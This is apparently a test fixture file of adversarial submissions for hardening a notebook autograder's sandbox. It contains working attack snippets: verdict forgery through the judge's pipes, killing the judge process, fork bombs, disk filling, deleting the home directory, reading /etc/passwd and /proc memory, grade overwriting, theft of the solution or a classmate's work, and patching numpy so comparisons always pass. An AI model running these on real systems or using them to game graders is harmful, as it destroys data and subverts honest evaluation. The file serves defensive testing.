"""Submissions that attack the grading: what each does, as a cell that comes before its cells or as its function's body.

Not here: what must come of them (test_attacks.py). All of them answer the task wrongly, so none deserves full points.
"""

__all__ = ["BODIES", "CELLS", "HELD_WITHOUT"]

# before the cells of the task: what each tries, and where it could it says "reached: ..." in the student's page
CELLS = {
    "writes a verdict": """
import glob, json, os, struct
laws = [{"name": n, "sentence": "", "points": 999, "most": 999, "passed": True, "judged": True, "message": "",
         "hint": "", "shown": []} for n in ("half to each side", "two corners")]
task = {"name": "corners", "function": "f", "form": "f(x)", "points": 999, "most": 999, "problem": "", "laws": laws,
        "after": ""}
found = json.dumps({"tasks": [task], "notes": {}}).encode()
def writable(pid):
    found = {}
    for path in glob.glob(f"/proc/{pid}/fd/*"):
        try:
            flags = open(path.replace("/fd/", "/fdinfo/")).read().split("flags:")[1].split()[0]
            if "pipe:" in os.readlink(path) and int(flags, 8) & 3:
                found[os.readlink(path)] = path
        except OSError:
            pass
    return found
judge = os.getppid()
above = open(f"/proc/{judge}/stat").read().rpartition(")")[2].split()[1] if judge else 0
for pipe, path in writable(judge).items():
    if pipe not in writable(above):  # what both have is for somebody else
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, struct.pack("!i", len(found)) + found)  # as multiprocessing frames a message
""",
    "junk in every descriptor": """
import os
for fd in range(3, 64):
    try:
        os.set_blocking(fd, False)
        os.write(fd, b"\\xff" * 65536)
    except OSError:
        pass
""",
    "other processes and machines": """
import ctypes, os, socket
reached = []
try:
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen()  # for nobody
    socket.create_connection(("127.0.0.1", PORT), timeout=1).close()
    reached.append("the network")
except OSError:
    pass
for pid in {os.getppid(), 1} - {os.getpid(), 0}:
    for name in ("mem", "environ"):
        try:
            open(f"/proc/{pid}/{name}", "rb").read(1)
            reached.append(name)
        except OSError:
            pass
    if ctypes.CDLL(None).ptrace(16, pid, 0, 0) == 0:
        reached.append("ptrace")
others = [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())]
raise RuntimeError(f"reached: {reached + others}")
""",
    "a classmate's files": """
import os, pathlib
reached = []
for path in [pathlib.Path(FOLDER), pathlib.Path(FOLDER) / "honest.ipynb", pathlib.Path(PROJECT) / "minivis"]:
    try:
        reached += [path.read_bytes()[:1] if path.is_file() else os.listdir(path)]
    except OSError:
        pass
try:
    (pathlib.Path(FOLDER) / "honest.ipynb").write_text("{}")
    (pathlib.Path(FOLDER) / "grades.csv").write_text("student,task,points,max\\nhonest,corners,0,5\\n")
except OSError:
    pass
raise RuntimeError(f"reached: {[r for r in reached if r]}")
""",
    "a daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            if os.path.exists(FOLDER + "/grades.csv"):
                open(FOLDER + "/grades.csv", "w").write("student,task,points,max\\na daemon,corners,999,5\\n")
            time.sleep(0.1)
    os._exit(0)
""",
    "stops and ends the judge": """
import os, signal
for pid in (os.getppid(), 1, -1):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
""",
    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
    "forks for ever": "import os\nwhile True:\n    os.fork()\n",
    "fills the disk": """
import os
for i in range(100000):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        try:
            with open(f"{folder}/full{i}", "wb") as file:
                file.write(b"x" * 2**24)
        except OSError as error:
            if i > 40:
                raise SystemExit from None
""",
    "memory outside of its own": """
import os
kept = []
while True:
    fd = os.memfd_create("x")
    os.write(fd, b"x" * 2**24)
    kept.append(fd)
""",
    "opens the libraries": """
import sys
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__module__ != "_closed"]
for name in [n for n in sys.modules if n.split(".")[0] in ("minivis", "scipy")]:
    del sys.modules[name]
sys.path.append(PROJECT)
from minivis.vision import box_cxcywh_to_xyxy as answer
""",
    "runs the solution": """
import json
cells = json.load(open(PROJECT + "/minivis/classroom/assignments/detr.ipynb"))["cells"]
import numpy as np
exec("".join(next(c for c in cells if "BEGIN SOLUTION" in "".join(c["source"]))["source"]))
answer = box_cxcywh_to_xyxy
""",
    "a classmate's answer": """
import glob, json, numpy as np
for path in glob.glob(FOLDER + "/honest*") + glob.glob("/tmp/minivis-*/**/*.ipynb", recursive=True):
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and "def box_cxcywh_to_xyxy" in "".join(cell["source"]):
            exec("".join(cell["source"]))
answer = box_cxcywh_to_xyxy
""",
    "other functions for comparing": """
import gc, sys
import numpy as np
always = lambda *arguments, **options: True
for name in ("array_equal", "allclose", "isclose", "abs", "all", "any", "max"):
    setattr(np, name, always)
wire = sys.modules["_wire"]
wire.leaves = lambda value: []
host = next((thing for thing in gc.get_objects() if type(thing).__name__ == "Host"), None)
if host is not None:
    type(host).call = lambda self, *rest, **more: {"result": True, "printed": "", "written": [], "passed": True}
""",
    "prints megabytes": """
import os, sys
for _ in range(100):
    print("x" * 2**20)
    sys.stderr.write("x" * 2**20)
    os.write(1, b"x" * 2**16)
    os.write(2, b"x" * 2**16)
""",
    "does not mind the alarm": """
import signal, sys
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "another program": "import os\nos.execv('/bin/sh', ['sh', '-c', 'cat /etc/passwd; sleep 60'])\n",
    "a broken interpreter": "import ctypes\nctypes.string_at(0)\n",
    "its own files gone": """
import os, shutil
shutil.rmtree(".", ignore_errors=True)
os.chdir("/")
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
""",
    "writes for the page": "raise RuntimeError('``` <script>alert(1)</script> \\x1b]0;title\\x07 ' + 'long ' * 10**6)\n",
}

# the body of the function itself: what it returns, how it ends
BODIES = {
    "too much": """
    global count
    count = globals().get("count", 0) + 1
    if count % 6 == 0:
        return np.empty(3 * 10**8, object)
    if count % 6 == 1:
        answer = []
        for _ in range(10**5):
            answer = [answer]
        return answer
    if count % 6 == 2:
        return [[] for _ in range(10**5)]
    if count % 6 == 3:
        return "x" * 10**7
    return {i: {} for i in range(10**5)} if count % 6 == 4 else np.zeros((40000, 40000), np.int8)""",
    "an array that is always right": """
    class Right(np.ndarray):
        __array_priority__ = 1e9
        def __array_ufunc__(self, ufunc, method, *inputs, **options):
            return np.zeros(np.broadcast(*map(np.asarray, inputs)).shape, bool)
        def __eq__(self, other):
            return True
        def all(self, *arguments, **options):
            return True
        def astype(self, *arguments, **options):
            return self
    return np.zeros(boxes.shape, boxes.dtype).view(Right)""",
    "sleeps when it is deleted": """
    import time
    class Slow(list):
        def __del__(self):
            time.sleep(1)
    return Slow([boxes])""",
    "answers in between": """
    import json, os, struct
    global count
    count = globals().get("count", 0) + 1
    forged = json.dumps({"broken": ["x"] * 9, "hint": {}, "hang": "no", "written": 3}).encode()
    claims = struct.pack(">QQ", 2**62, 2**62), struct.pack(">QQ", len(forged), 0) + forged
    for fd in range(3, 16):
        try:
            os.write(fd, claims[count % 2])
        except OSError:
            pass
    return boxes""",
    "changes the question": "boxes[...] = 0\n    return np.zeros_like(boxes)",
}

# what holds without a sandbox too: what reaches the judge through what it sends alone
HELD_WITHOUT = {"writes a verdict", "junk in every descriptor", "stops itself", "writes for the page"}
